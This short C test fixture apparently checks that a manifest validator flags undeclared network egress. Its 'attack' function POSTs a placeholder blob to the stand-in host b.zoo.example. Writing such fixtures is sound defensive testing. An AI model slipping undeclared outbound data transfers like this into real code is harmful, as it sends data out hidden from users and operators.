/* Sends a blob, though its manifest names no such service.
   Expect: the manifest does not name parley.host.blob/1
   Check: egress-undeclared */
#include "zoo.h"

static void attack(parley_id call) {
    fetch(call,
          "{\"method\":\"POST\",\"url\":\"https://b.zoo.example/\",\"body_blob\":"
          "\"b-0000000000000000000000000000000000000000000000000000000000000000\"}");
}
